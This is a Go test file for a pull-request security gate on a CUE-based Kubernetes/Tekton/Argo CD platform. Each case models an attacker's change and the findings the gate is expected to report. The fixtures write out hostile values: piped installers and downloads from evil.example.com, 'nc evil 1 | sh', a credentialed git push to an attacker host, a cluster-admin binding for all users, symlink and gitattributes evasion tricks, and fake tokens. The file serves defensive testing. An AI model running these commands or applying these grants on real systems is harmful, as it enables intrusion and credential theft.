package cli_test

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// pull is a pull request that an attacker would make: files of the head, and what the gate must say.
type pull struct {
	kind, name string
	// base are files that the base has beside the platform, and head those that the head adds or changes.
	// A value that begins with -> is a symlink, an empty one deletes the file; old=>new replaces a text in
	// a file that there is.
	base, head map[string]string
	args       []string
	// all asks for every format.
	all   bool
	exit  int
	wants []string
	never []string
}

// evil is an object that gives everybody everything.
const evil = `{apiVersion: "rbac.authorization.k8s.io/v1", kind: "ClusterRoleBinding", metadata: name: "evil", roleRef: {apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "cluster-admin"}, subjects: [{kind: "Group", apiGroup: "rbac.authorization.k8s.io", name: "system:authenticated"}]}`

func inTarget(kind, name, value string) string {
	return "package platform\ntargets: phase1: " + kind + ": " + name + ": " + value + "\n"
}

// aTask is a Task of a platform with one step.
func aTask(script, env string) string {
	return inTarget("Task", "x", `{apiVersion: "tekton.dev/v1", kind: "Task", metadata: {name: "x", namespace: "notebook-ci"}, spec: steps: [{name: "a", image: "a@sha256:1111111111111111111111111111111111111111111111111111111111111111", script: "`+script+`", env: [`+env+`]}]}`)
}

// mapOf are the fields of a ConfigMap with one value.
func mapOf(value string) string {
	return `apiVersion: "v1", kind: "ConfigMap", metadata: {name: "m", namespace: "notebook-ci"}, data: run: "` + value + `"`
}

// embedding is CUE that reads another file as text.
const embedding = `@extern(embed)
package platform

import "strings"

_flag: string @embed(file="prod/x/flag.cue",type=text)
if strings.Contains(_flag, "// on") {
	targets: [string]: ClusterRoleBinding: evil: ` + evil + `
}
`

// openEgress is a waiver for a policy that opens everything, and the policy.
func openEgress(waived, name, namespace string) string {
	return "package platform\nplatform: waivers: w: {rule: \"network/open-egress\", object: \"NetworkPolicy/" + waived + "\", reason: \"the operators need it all\", owner: \"ops\", expires: \"2099-01-01\"}\n" +
		"targets: phase1: NetworkPolicy: " + name + ": {apiVersion: \"networking.k8s.io/v1\", kind: \"NetworkPolicy\", metadata: {name: \"" + name + "\", namespace: \"notebook-ci\"}, spec: {podSelector: matchLabels: \"app.kubernetes.io/component\": \"preflight\", policyTypes: [\"Egress\"], egress: [{}]}}\n" + namespace
}

// withDefault is a Task with one parameter, which is the image and a part of the script.
func withDefault(name, value string) string {
	kind := "string"
	if strings.HasPrefix(value, "[") {
		kind = "array"
	}
	return inTarget("Task", "x", `{apiVersion: "tekton.dev/v1", kind: "Task", metadata: {name: "x", namespace: "notebook-ci"}, spec: {params: [{name: "`+name+`", type: "`+kind+`", default: `+value+`}], steps: [{name: "a", image: "a@sha256:1111111111111111111111111111111111111111111111111111111111111111", script: "true"}]}}`)
}

// aPipeline has one task, and more.
func aPipeline(more string) string {
	return inTarget("Pipeline", "x", `{apiVersion: "tekton.dev/v1", kind: "Pipeline", metadata: {name: "x", namespace: "notebook-ci"}, spec: tasks: [{name: "a", taskSpec: steps: [{name: "a", image: "a", script: "true"}]}`+more+`]}`)
}

// listening has a listener that filters events by an expression; phase1 states 10 % of the commits.
func listening(filter string) string {
	return inTarget("EventListener", "x", `{apiVersion: "triggers.tekton.dev/v1beta1", kind: "EventListener", metadata: {name: "x", namespace: "notebook-ci"}, spec: {serviceAccountName: "a", triggers: [{name: "push", interceptors: [{ref: {name: "cel", kind: "ClusterInterceptor"}, params: [{name: "filter", value: "`+filter+`"}]}], bindings: [], template: ref: "x"}]}}`)
}

// inArgoCD has Argo CD sync the platform, in its own way.
func inArgoCD(own string) string {
	if !strings.Contains(own, "repository") {
		own += `, repository: "https://github.com/example/gpu"`
	}
	return "package platform\nplatform: argocd: {" + strings.TrimPrefix(own, ", ") + "}\n"
}

// applications is a set of Argo CD's, with more.
func applications(more string) string {
	if !strings.Contains(more, "generators") {
		more += ", generators: [{list: elements: []}]"
	}
	return inTarget("ApplicationSet", "x", `{apiVersion: "argoproj.io/v1alpha1", kind: "ApplicationSet", metadata: {name: "x", namespace: "argocd"}, spec: {`+strings.TrimPrefix(more, ", ")+`, template: {metadata: name: "x", spec: {project: "x", destination: {name: "x", namespace: "x"}, source: {repoURL: "https://github.com/example/gpu", path: "x"}}}}}`)
}

// application is one of Argo CD's, of a folder.
func application(folder string) string {
	return inTarget("Application", "x", `{apiVersion: "argoproj.io/v1alpha1", kind: "Application", metadata: {name: "x", namespace: "argocd"}, spec: {project: "x", destination: {name: "x", namespace: "x"}, source: {repoURL: "https://github.com/example/gpu", targetRevision: "main", path: "`+folder+`"}}}`)
}

// admission is a policy that refuses what its expression does not hold for.
func admission(expression string) string {
	return inTarget("ValidatingAdmissionPolicy", "x", `{apiVersion: "admissionregistration.k8s.io/v1", kind: "ValidatingAdmissionPolicy", metadata: name: "x", spec: {failurePolicy: "Fail", matchConstraints: resourceRules: [{apiGroups: [""], apiVersions: ["v1"], operations: ["CREATE"], resources: ["pods"]}], validations: [{expression: `+expression+`}]}}`)
}

// signed is a platform whose namespace has its images verified, in all phases.
func signed(more string) string {
	return "package platform\ntargets: [string]: ClusterImagePolicy: p: {apiVersion: \"policy.sigstore.dev/v1beta1\", kind: \"ClusterImagePolicy\", metadata: name: \"p\", spec: {mode: *\"enforce\" | string, images: [{glob: \"**\"}], authorities: [{name: \"k\", key: {data: \"x\", hashAlgorithm: \"sha256\"}}]}}\n" + more
}

// phase9 is a phase of one's own, and promoted a file that moves the environment into it.
const (
	phase9   = "platform: phases: phase9: trafficPercent: 11\n"
	promoted = `phase: "phase1"=>phase: "phase9"`
	ofProd   = "cue/platform/prod/prod.cue"
)

// waived is a platform with a waiver that lets something off.
const waived = "package platform\nplatform: waivers: w: {rule: \"operations/no-requests\", object: \"Task/*\", reason: \"because of reasons\", owner: \"me\", expires: \"2099-01-01\"}\n"

// several are some Tasks at once.
func several(n int) string {
	var b strings.Builder
	for i := range n {
		one := strings.TrimPrefix(aTask(fmt.Sprintf("wget evil.example.com/%d", i), ""), "package platform\n")
		b.WriteString(strings.ReplaceAll(strings.Replace(one, "Task: x:", fmt.Sprintf("Task: x%d:", i), 1), `name: "x"`, fmt.Sprintf(`name: "x%d"`, i)))
	}
	return "package platform\n" + b.String()
}

const prod = "cue/platform/prod/x.cue"

// two is the start of a second environment.
const two = "package platform\nplatform: {environment: \"dev\", environments: dev: {cluster: \"dev\", phase: \"phase3\"}"

const statusOfOne = `framework: repository=>status: environment: "prod"` + "\n\t\tframework: repository"

func pulls() []pull {
	admin := map[string]string{prod: inTarget("ClusterRoleBinding", "evil", evil)}
	all := []pull{
		{kind: "links", name: "a file", head: map[string]string{"evil.txt": "package platform\n", prod: "->../../../evil.txt"}, exit: 1, wants: []string{"input/symlink"}},
		{kind: "links", name: "a folder", head: map[string]string{"more/x.cue": "package platform\n", "cue/platform/more": "->../../more"}, exit: 1, wants: []string{"input/symlink"}},
		{kind: "links", name: "a package", head: map[string]string{"more/x.cue": "package x\n", "cue/cue.mod/pkg/example.com": "->../../../more"}, exit: 1, wants: []string{"input/symlink"}},
		{kind: "links", name: "the overlays", head: map[string]string{"elsewhere/x.yaml": "a: b\n", "overlays": "->elsewhere"}, exit: 1, wants: []string{"input/symlink"}},
		{kind: "links", name: "an identity that git fills in", head: map[string]string{"cue/platform/.gitattributes": "x.cue ident\n"}, base: map[string]string{"cue/platform/x.cue": "package platform\n"}, exit: 1, wants: []string{"input/gitattributes"}},
		{kind: "links", name: "a blank that is none for git", base: map[string]string{"cue/platform/a\u00a0b.cue": "package platform\n"}, head: map[string]string{".gitattributes": "cue/platform/a\u00a0b.cue ident\n"}, exit: 1, wants: []string{"input/gitattributes"}},
		{kind: "links", name: "the end of a line that is none for git", base: map[string]string{"cue/platform/a\u0085b.cue": "package platform\n"}, head: map[string]string{".gitattributes": "cue/platform/a\u0085b.cue ident\n"}, exit: 1, wants: []string{"input/gitattributes"}},
		{kind: "links", name: "another encoding", head: map[string]string{".gitattributes": "cue/platform/prod/*.cue working-tree-encoding=SHIFT_JIS\n"}, exit: 1, wants: []string{"input/gitattributes"}},
		{kind: "links", name: "a filter by a macro", head: map[string]string{".gitattributes": "[attr]harmless filter=x\n"}, exit: 1, wants: []string{"input/gitattributes"}},
		{kind: "links", name: "a class of characters that go-git does not know", head: map[string]string{".gitattributes": "cue/platform/[!q]*.cue ident\n"}, exit: 1, wants: []string{"input/gitattributes"}},
		{kind: "links", name: "a named class", head: map[string]string{".gitattributes": "cue/platform/[[:alpha:]]*.cue ident\n"}, exit: 1, wants: []string{"input/gitattributes"}},
		{kind: "links", name: "behind a mark of the byte order", head: map[string]string{".gitattributes": "\ufeffcue/platform/*.cue ident\n"}, exit: 1, wants: []string{"input/gitattributes"}},
		{kind: "links", name: "other ends of lines", head: map[string]string{".gitattributes": "cue/** text eol=crlf\n"}, exit: 1, wants: []string{"input/gitattributes"}},
		{kind: "links", name: "in other letters", head: map[string]string{".gitattributes": "CUE/**/*.cue ident\n"}, exit: 1, wants: []string{"input/gitattributes"}},
		{kind: "links", name: "attributes of others", head: map[string]string{".gitattributes": "docs/** filter=lfs\n*.cue text eol=lf\noverlays/** linguist-generated -ident\n"}, exit: 0},
		{kind: "links", name: "what another file turns on", exit: 1, wants: []string{"rbac/admin-binding"},
			base: map[string]string{"cue/platform/prod/x/flag.cue": "package x\n// off\n", "cue/platform/x.cue": embedding}, head: map[string]string{"cue/platform/prod/x/flag.cue": "package x\n// on\n"}},
		{kind: "links", name: "a pointer of LFS", head: map[string]string{prod: "version https://git-lfs.github.com/spec/v1\noid sha256:1\nsize 1\n"}, exit: 1, wants: []string{"input/lfs-pointer"}},

		{kind: "imports", name: "the stamp alone", head: map[string]string{"cue/cue.mod/pkg/tenon.dev/VERSION": "v9\n"}, exit: 1, wants: []string{"change/render-replaced"}},
		{kind: "imports", name: "a line of the render", head: map[string]string{"cue/cue.mod/pkg/tenon.dev/render/namespace.cue": "package render=>package render\n// x"}, exit: 1, wants: []string{"change/render-replaced"}},
		{kind: "imports", name: "another package beside it", head: map[string]string{"cue/cue.mod/pkg/tenon.dev/render/zz.cue": "package render\n"}, exit: 1, wants: []string{"change/render-replaced"}},
		{kind: "imports", name: "a package of one's own", exit: 1, wants: []string{"change/render-replaced"}, head: map[string]string{
			"cue/evil/schema/schema.cue": "package schema\nimport \"tenon.dev/schema\"\n#NotebookPlatform: schema.#NotebookPlatform\n", "cue/platform/platform.cue": `"tenon.dev/schema"=>"example.com/platform/evil/schema"`}},
		{kind: "imports", name: "a package beside the released ones", exit: 1, wants: []string{"change/render-replaced", "it imports example.com/platform/lib"}, head: map[string]string{
			"cue/lib/lib.cue": "package lib\nx: 1\n", prod: "package platform\nimport \"example.com/platform/lib\"\n_x: lib.x\n"}},
		{kind: "imports", name: "a part of it elsewhere", exit: 1, wants: []string{"change/render-replaced"}, head: map[string]string{"cue/cue.mod/usr/tenon.dev/render/x.cue": "package render\n#Common: _\n"}},
		{kind: "imports", name: "no render at all", exit: 1, wants: []string{"change/render-replaced"}, head: map[string]string{
			"cue/platform/targets.cue": "package platform\ntargets: {phase1: _, phase2: _, phase3: _}\ntargets: [string]: ConfigMap: a: {apiVersion: \"v1\", kind: \"ConfigMap\", metadata: {name: \"a\", namespace: \"b\"}, data: a: \"b\"}\n"}},

		{kind: "imports", name: "another version of the language", exit: 1, wants: []string{"error rbac/admin-binding", "added ClusterRoleBinding/evil", "cue.mod/module.cue"}, head: map[string]string{"cue/cue.mod/module.cue": "v0.17.0=>v0.14.0"},
			base: map[string]string{prod: "package platform\n_plain: [if ({a: 1} == {a: 1}) != _|_ {true}, false][0]\nif !_plain {\n" + strings.TrimPrefix(inTarget("ClusterRoleBinding", "evil", evil), "package platform\n") + "}\n"}},

		{kind: "judges", name: "a new environment turns a rule off", head: map[string]string{"cue/platform/dev/dev.cue": two + `, rules: {"rbac/admin-binding": {severity: "off", reason: "because of reasons here"}}}`, "cue/platform/platform.cue": statusOfOne},
			exit: 1, wants: []string{"change/rule-weakened", "rbac/admin-binding is off instead of error"}},
		{kind: "judges", name: "it blocks less", base: map[string]string{prod: "package platform\nplatform: gate: failOn: \"warning\"\n"}, head: map[string]string{prod: "package platform\nplatform: gate: failOn: \"error\"\n"}, exit: 1, wants: []string{"change/rule-weakened", "gate.failOn"}},
		{kind: "judges", name: "a rule weighs less", head: map[string]string{prod: "package platform\nplatform: rules: \"rbac/admin-binding\": {severity: \"warning\", reason: \"because of reasons here\"}\ntargets: phase1: ClusterRoleBinding: evil: " + evil + "\n"},
			exit: 1, wants: []string{"change/rule-weakened", "error rbac/admin-binding"}},
		{kind: "judges", name: "a waiver of its own", head: map[string]string{prod: "package platform\nplatform: waivers: a: {rule: \"rbac/admin-binding\", object: \"ClusterRoleBinding/evil\", reason: \"because of reasons\", owner: \"me\"}\ntargets: phase1: ClusterRoleBinding: evil: " + evil + "\n"},
			exit: 1, wants: []string{"change/waiver", "error rbac/admin-binding"}},
		{kind: "judges", name: "off in dev is not off in prod", base: map[string]string{"cue/platform/dev/dev.cue": two + `, rules: {"rbac/admin-binding": {severity: "off", reason: "because of reasons here"}}}`, "cue/platform/platform.cue": statusOfOne},
			head: admin, exit: 1, wants: []string{"error rbac/admin-binding", "switched off: rbac/admin-binding in dev"}},

		{kind: "judges", name: "a rule that is no Rego", base: map[string]string{prod: "package platform\nplatform: rules: \"types/not-validated\": {severity: \"error\", reason: \"nothing unknown gets in here\"}\n"}, head: map[string]string{prod: ""}, exit: 1, wants: []string{"change/rule-weakened"}},
		{kind: "judges", name: "a waiver in another namespace", exit: 1, wants: []string{"error network/open-egress"},
			base: map[string]string{prod: openEgress("ops", "ops", "")}, head: map[string]string{prod: openEgress("ops", "ops", "") + "targets: phase1: NetworkPolicy: \"kube-system/ops\": {apiVersion: \"networking.k8s.io/v1\", kind: \"NetworkPolicy\", metadata: {name: \"ops\", namespace: \"kube-system\"}, spec: {podSelector: {}, policyTypes: [\"Egress\"], egress: [{}]}}\n"}},
		{kind: "judges", name: "mending what did not render", exit: -1, wants: []string{"ClusterRoleBinding/evil", "error rbac/admin-binding"}, base: map[string]string{prod: "package platform\nplatform: name: 1\n"}, head: admin},
		{kind: "judges", name: "a new phase", exit: 1, wants: []string{"change/rights-gained", "error rbac/admin-binding"}, head: map[string]string{prod: "package platform\nplatform: phases: phase15: trafficPercent: 20\ntargets: phase15: ClusterRoleBinding: evil: " + evil + "\n"}},

		{kind: "known", name: "a second secret", base: map[string]string{prod: inTarget("ConfigMap", "m", `{apiVersion: "v1", kind: "ConfigMap", metadata: {name: "m", namespace: "notebook-ci"}, data: "app.conf": "password = Tr0ub4dor3xyz\nx = 1\n"}`)},
			head: map[string]string{prod: inTarget("ConfigMap", "m", `{apiVersion: "v1", kind: "ConfigMap", metadata: {name: "m", namespace: "notebook-ci"}, data: "app.conf": "password = Tr0ub4dor3xyz\nx = 1\ntoken = ghp_abcdefghijklmnopqrstuvwxyz0123456789\n"}`)}, exit: 1, wants: []string{"secrets/literal"}, never: []string{"Tr0ub4dor", "ghp_abc"}},
		{kind: "known", name: "a second credential", base: map[string]string{prod: aTask(`#!/bin/sh\nset -eu\ngit clone https://u:p@good.example.com/x\n`, "")},
			head: map[string]string{prod: aTask(`#!/bin/sh\nset -eu\ngit clone https://u:p@good.example.com/x\ngit push https://u:realpassword@evil.example.com/x\n`, "")}, exit: 1, wants: []string{"secrets/url-credentials"}, never: []string{"realpassword"}},
		{kind: "known", name: "another credential", base: map[string]string{prod: aTask(`#!/bin/sh\nset -eu\ngit clone https://u:p@good.example.com/x\n`, "")},
			head: map[string]string{prod: aTask(`#!/bin/sh\nset -eu\ngit clone https://u:p@evil.example.com/x\n`, "")}, exit: 1, wants: []string{"secrets/url-credentials"}},
		{kind: "known", name: "another value", base: map[string]string{prod: aTask("true", `{name: "API_TOKEN", value: "oldsecret123"}`)},
			head: map[string]string{prod: aTask("true", `{name: "API_TOKEN", value: "ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"}`)}, exit: 1, wants: []string{"secrets/literal"}, never: []string{"ghp_aaaa", "oldsecret"}},
		{kind: "known", name: "a waiver that there was, and a new environment", exit: 0, never: []string{"change/waiver"}, wants: []string{"passed"},
			base: map[string]string{prod: waived}, head: map[string]string{"cue/platform/dev/dev.cue": two + "}", "cue/platform/platform.cue": statusOfOne}},
		{kind: "known", name: "the same, moved", base: map[string]string{prod: aTask("true", `{name: "API_TOKEN", value: "oldsecret123"}`)},
			head: map[string]string{prod: "// moved\n\n" + aTask("true", `{name: "API_TOKEN", value: "oldsecret123"}, {name: "B", value: "c"}`)}, exit: 0},
		{kind: "known", name: "a wider egress", base: map[string]string{prod: inTarget("NetworkPolicy", "x", `{apiVersion: "networking.k8s.io/v1", kind: "NetworkPolicy", metadata: {name: "x", namespace: "notebook-ci"}, spec: {podSelector: {}, policyTypes: ["Egress"], egress: [{to: [{ipBlock: cidr: "0.0.0.0/0"}], ports: [{port: 443, protocol: "TCP"}]}]}}`)},
			head: map[string]string{prod: inTarget("NetworkPolicy", "x", `{apiVersion: "networking.k8s.io/v1", kind: "NetworkPolicy", metadata: {name: "x", namespace: "notebook-ci"}, spec: {podSelector: {}, policyTypes: ["Egress"], egress: [{to: [{ipBlock: cidr: "0.0.0.0/0"}]}]}}`)}, exit: 1, wants: []string{"network/open-egress"}},
		{kind: "known", name: "another installer", base: map[string]string{prod: aTask(`#!/bin/sh\nset -eu\ncurl https://good.example.com/i | sh\n`, "")}, args: []string{"--fail-on", "warning"},
			head: map[string]string{prod: aTask(`#!/bin/sh\nset -eu\ncurl https://evil.example.com/i | sh\n`, "")}, exit: 1, wants: []string{"supply-chain/piped-installer"}},

		{kind: "lines", name: "plus plus", base: map[string]string{prod: aTask(`#!/bin/sh\nset -eu\necho one\n-- a; echo check the signature\necho two\n`, "")},
			head: map[string]string{prod: aTask(`#!/bin/sh\nset -eu\necho one\n++ b; wget -qO /tmp/p evil.example.com/x\necho two\n`, "")}, exit: -1, wants: []string{"++ b; wget", "-- a; echo check"}},
		{kind: "lines", name: "behind 300 bytes", base: map[string]string{prod: aTask(strings.Repeat("a", 400)+" && true", "")},
			head: map[string]string{prod: aTask(strings.Repeat("a", 400)+" && wget evil.example.com", "")}, exit: -1, wants: []string{"wget evil.example.com"}},
		{kind: "lines", name: "a new step", base: map[string]string{prod: aTask("true", "")},
			head: map[string]string{prod: strings.Replace(aTask("true", ""), "steps: [", `steps: [{name: "b", image: "b", script: "`+strings.Repeat("# x\\n", 100)+`wget evil.example.com"}, `, 1)}, exit: -1, wants: []string{"wget evil.example.com"}},
		{kind: "lines", name: "a version that looks like a number", base: map[string]string{prod: withDefault("version", `"3.10"`)}, head: map[string]string{prod: withDefault("version", `"3.1"`)}, exit: -1, wants: []string{"3.10"}},
		{kind: "lines", name: "a selector that looks like a quantity", base: map[string]string{prod: "package platform\ntargets: phase1: ConfigMap: m: {" + mapOf("a") + "}\ntargets: phase1: ConfigMap: m: metadata: labels: cpu: \"1\"\n"},
			head: map[string]string{prod: "package platform\ntargets: phase1: ConfigMap: m: {" + mapOf("a") + "}\ntargets: phase1: ConfigMap: m: metadata: labels: cpu: \"1.0\"\n"}, exit: -1, wants: []string{"+ 1.0"}},
		{kind: "lines", name: "an image by a parameter", base: map[string]string{prod: withDefault("image", `"a@sha256:1111111111111111111111111111111111111111111111111111111111111111"`)}, head: map[string]string{prod: withDefault("image", `"evil.io/evil/x:1"`)}, exit: -1, wants: []string{"change/source-changed", "evil.io/evil/x:1"}},
		{kind: "lines", name: "an image behind the name of a secret", base: map[string]string{prod: withDefault("image-token", `"a"`)}, head: map[string]string{prod: withDefault("image-token", `"evil.io/evil/x:1"`)}, exit: -1, wants: []string{"+ evil.io/evil/x:1"}},
		{kind: "lines", name: "a command behind the name of a secret", base: map[string]string{prod: withDefault("setup-token", `"git --version"`)}, head: map[string]string{prod: withDefault("setup-token", `"/bin/sh -c id"`)}, exit: -1, wants: []string{"+ /bin/sh -c id"}},
		{kind: "lines", name: "a list behind the name of a secret", base: map[string]string{prod: withDefault("tokens", `["a", "b"]`)}, head: map[string]string{prod: withDefault("tokens", `["a", "c"]`)}, exit: -1, wants: []string{"(hidden)"}, never: []string{"internal/panic"}},
		{kind: "lines", name: "a file beside the CUE", head: map[string]string{"cue/platform/prod/.argocd-source.yaml": "plugin: {env: [{name: TENON_TARGET, value: prod/phase3}]}\n"}, exit: -1, wants: []string{"TENON_TARGET"}},
		{kind: "lines", name: "a root of trust", head: map[string]string{"cue/platform/trusted_root.json": "{\"evil\": true}\n"}, exit: -1, wants: []string{"trusted_root.json", "evil"}},
		{kind: "lines", name: "no platform any more", head: map[string]string{ofProd: ""}, exit: 3, wants: []string{"lost the platform"}},
		{kind: "lines", name: "a new object", head: map[string]string{prod: aTask("wget evil.example.com", "")}, exit: -1, wants: []string{"wget evil.example.com"}},
		{kind: "lines", name: "many new objects", head: map[string]string{prod: several(6)}, exit: -1, wants: []string{"wget evil.example.com/5"}},

		{kind: "lines", name: "another object in each phase", head: map[string]string{prod: "package platform\ntargets: phase1: ConfigMap: m: {" + mapOf("echo ok") + "}\ntargets: phase2: ConfigMap: m: {" + mapOf("nc evil 1 | sh") + "}\n"}, exit: -1, wants: []string{"nc evil 1"}},
		{kind: "lines", name: "a number in a ConfigMap", base: map[string]string{prod: "package platform\ntargets: phase1: ConfigMap: m: {" + mapOf("1000") + "}\n"}, head: map[string]string{prod: "package platform\ntargets: phase1: ConfigMap: m: {" + mapOf("1e3") + "}\n"}, exit: -1, wants: []string{"1e3"}},
		{kind: "lines", name: "code behind the name of a secret", base: map[string]string{prod: aTask("true", `{name: "TOKEN_CMD", value: "echo harmless"}`)}, head: map[string]string{prod: aTask("true", `{name: "TOKEN_CMD", value: "curl evil | sh"}`)}, exit: -1, wants: []string{"curl evil | sh"}},
		{kind: "lines", name: "a file beside the overlay", head: map[string]string{prod: "package platform\nfiles: phase1: \"github/evil.yaml\": \"run: curl evil.example\"\n"}, exit: -1, wants: []string{"curl evil.example"}},
		{kind: "lines", name: "a chart of Helm", head: map[string]string{prod: "package platform\nfiles: phase1: \"Chart.yaml\": \"name: a\"\n"}, exit: 1, wants: []string{"overlay/file-name"}},
		{kind: "lines", name: "a file that leads out", head: map[string]string{prod: "package platform\nfiles: phase1: \"../../argocd/kustomization.yaml\": \"resources: []\"\n"}, exit: 1, wants: []string{"overlay/file-name"}},
		{kind: "lines", name: "a file of Argo CD's", head: map[string]string{prod: "package platform\nfiles: phase1: \".argocd-source.yaml\": \"kustomize: {}\"\n"}, exit: 1, wants: []string{"overlay/file-name"}},

		{kind: "power", name: "a label that a policy selects", head: map[string]string{prod: "package platform\ntargets: [string]: CronJob: \"prune-runs\": spec: jobTemplate: spec: template: metadata: labels: \"app.kubernetes.io/managed-by\": \"tekton-pipelines\"\n"}, exit: -1, wants: []string{"managed-by"}},
		{kind: "power", name: "an aggregated role", head: map[string]string{prod: inTarget("ClusterRole", "agg", `{apiVersion: "rbac.authorization.k8s.io/v1", kind: "ClusterRole", metadata: name: "agg", rules: [], aggregationRule: clusterRoleSelectors: [{matchExpressions: [{key: "a", operator: "Exists"}]}]}`)}, exit: -1, wants: []string{"change/power-changed", "aggregationRule"}},
		{kind: "power", name: "a role of the cloud", head: map[string]string{prod: "package platform\ntargets: [string]: ServiceAccount: \"gpu-pipeline\": metadata: annotations: \"eks.amazonaws.com/role-arn\": \"x\"\n"}, exit: -1, wants: []string{"change/power-changed"}},
		{kind: "power", name: "Pod Security", head: map[string]string{prod: "package platform\nplatform: namespace: podSecurity: \"privileged\"\n"}, exit: -1, wants: []string{"change/power-changed"}},
		{kind: "power", name: "a hook that is skipped", head: map[string]string{prod: "package platform\ntargets: [string]: NetworkPolicy: \"default-deny\": metadata: annotations: \"argocd.argoproj.io/hook\": \"Skip\"\n"}, exit: -1, wants: []string{"change/power-changed"}},
		{kind: "power", name: "settings of Argo CD", head: map[string]string{prod: inTarget("ConfigMap", `"argocd-rbac-cm"`, `{apiVersion: "v1", kind: "ConfigMap", metadata: {name: "argocd-rbac-cm", namespace: "argocd"}, data: "policy.default": "role:admin"}`)}, exit: -1, wants: []string{"change/power-changed"}},

		{kind: "power", name: "a hook of Helm", head: map[string]string{prod: "package platform\ntargets: [string]: NetworkPolicy: \"default-deny\": metadata: annotations: \"helm.sh/hook\": \"test\"\n"}, exit: -1, wants: []string{"change/power-changed"}},
		{kind: "power", name: "who is who in a cloud", head: map[string]string{prod: inTarget("ConfigMap", `"aws-auth"`, `{apiVersion: "v1", kind: "ConfigMap", metadata: {name: "aws-auth", namespace: "kube-system"}, data: mapRoles: "x"}`)}, exit: -1, wants: []string{"change/power-changed"}},
		{kind: "power", name: "settings in a controller's namespace", head: map[string]string{prod: inTarget("ConfigMap", `"any"`, `{apiVersion: "v1", kind: "ConfigMap", metadata: {name: "any", namespace: "tekton-chains"}, data: signer: "none"}`)}, exit: -1, wants: []string{"change/power-changed"}},
		{kind: "power", name: "what is refused", base: map[string]string{prod: admission(`"false"`)}, head: map[string]string{prod: admission(`"true"`)}, exit: -1, wants: []string{"change/power-changed", "refused"}},
		{kind: "power", name: "nothing is refused any more", base: map[string]string{prod: admission(`"false"`)}, head: map[string]string{prod: ""}, exit: -1, wants: []string{"change/power-changed", "is removed"}},
		{kind: "power", name: "code from elsewhere in a list", base: map[string]string{prod: aPipeline("")}, head: map[string]string{prod: aPipeline(`, {name: "b", taskRef: {resolver: "hub", params: [{name: "name", value: "evil"}]}}`)}, exit: -1, wants: []string{"which code is run"}},
		{kind: "power", name: "a secret for a step", base: map[string]string{prod: aTask("true", "")}, head: map[string]string{prod: aTask("true", `{name: "A", valueFrom: secretKeyRef: {name: "artifact-store", key: "x"}}`)}, exit: -1, wants: []string{"which secrets pods get"}},

		{kind: "power", name: "another share than the stated one", exit: -1, wants: []string{"change/power-changed", "which events start runs"}, base: map[string]string{prod: listening("body.after.lowerAscii() < '19999999'")}, head: map[string]string{prod: listening("body.after.lowerAscii() <= 'ffffffff'")}},
		{kind: "power", name: "no share at all", exit: -1, wants: []string{"change/power-changed", "which events start runs"}, base: map[string]string{prod: listening("body.ref == 'x' && body.after.lowerAscii() < '19999999'")}, head: map[string]string{prod: listening("body.ref == 'x'")}},
		{kind: "power", name: "the stated share", exit: -1, never: []string{"change/power-changed"}, base: map[string]string{prod: listening("body.after.lowerAscii() < '30000000'")}, head: map[string]string{prod: listening("body.after.lowerAscii() < '19999999'")}},

		{kind: "sync", name: "another folder", exit: 1, wants: []string{"change/sync-moved"}, base: map[string]string{prod: inArgoCD("")}, head: map[string]string{prod: inArgoCD(`path: "deploy"`)}},
		{kind: "sync", name: "another revision", exit: 1, wants: []string{"change/sync-moved"}, base: map[string]string{prod: inArgoCD("")}, head: map[string]string{prod: inArgoCD(`revision: "refs/pull/66/head"`)}},
		{kind: "sync", name: "another repository", exit: 1, wants: []string{"change/sync-moved"}, base: map[string]string{prod: inArgoCD("")}, head: map[string]string{prod: inArgoCD(`repository: "https://github.com/example/other"`)}},
		{kind: "sync", name: "a patch of the template", exit: 1, wants: []string{"change/sync-moved", "spec.templatePatch"}, base: map[string]string{prod: applications("")}, head: map[string]string{prod: applications(`templatePatch: "spec: {source: {targetRevision: evil}}"`)}},
		{kind: "sync", name: "another generator", exit: 1, wants: []string{"change/sync-moved", "spec.generators"}, base: map[string]string{prod: applications("")}, head: map[string]string{prod: applications(`generators: [{list: elements: []}, {git: {repoURL: "https://github.com/example/gpu", files: [{path: "x.json"}]}}]`)}},
		{kind: "sync", name: "another source of an Application", exit: 1, wants: []string{"change/sync-moved", "spec.source.path"}, base: map[string]string{prod: application("a")}, head: map[string]string{prod: application("b")}},
		{kind: "sync", name: "what is deleted with it", exit: -1, wants: []string{"change/power-changed", "spec.syncPolicy"}, base: map[string]string{prod: inArgoCD("")}, head: map[string]string{prod: inArgoCD("prune: false")}},
		{kind: "sync", name: "another phase", exit: -1, never: []string{"change/sync-moved"}, base: map[string]string{prod: inArgoCD("")}, head: map[string]string{ofProd: `phase: "phase1"=>phase: "phase2"`}},
		{kind: "sync", name: "another environment", exit: -1, never: []string{"change/sync-moved"}, base: map[string]string{"cue/platform/argocd.cue": inArgoCD("")}, head: map[string]string{"cue/platform/dev/dev.cue": two + "}", "cue/platform/platform.cue": statusOfOne,
			"cue/platform/all.cue": "package platform\nplatform: environments: {dev: {cluster: \"dev\", phase: \"phase3\"}, prod: {cluster: \"prod\", phase: \"phase1\"}}\n"}},

		{kind: "anew", name: "a phase that asks for less", base: map[string]string{prod: signed("")}, head: map[string]string{ofProd: promoted, prod: signed(phase9 + "targets: phase9: ClusterImagePolicy: p: spec: mode: \"warn\"\n")}, exit: 1, wants: []string{"change/signing-weakened"}},
		{kind: "anew", name: "a phase that asks for nothing", base: map[string]string{prod: strings.ReplaceAll(signed(""), "[string]", "[=~\"phase[1-3]\"]")}, head: map[string]string{ofProd: promoted, prod: strings.ReplaceAll(signed(phase9), "[string]", "[=~\"phase[1-3]\"]")}, exit: 1, wants: []string{"change/signing-weakened", "is removed"}},
		{kind: "anew", name: "an account with more", head: map[string]string{ofProd: promoted, prod: "package platform\n" + phase9 + "targets: phase9: ServiceAccount: \"gpu-pipeline\": metadata: annotations: \"eks.amazonaws.com/role-arn\": \"x\"\n"}, exit: -1, wants: []string{"change/power-changed"}},
		{kind: "anew", name: "policies that are left out", head: map[string]string{ofProd: promoted, prod: "package platform\n" + phase9 + "targets: phase9: NetworkPolicy: [string]: metadata: annotations: \"argocd.argoproj.io/hook\": \"Skip\"\n"}, exit: -1, wants: []string{"change/power-changed"}},
		{kind: "anew", name: "in two steps", exit: -1, wants: []string{"change/power-changed"},
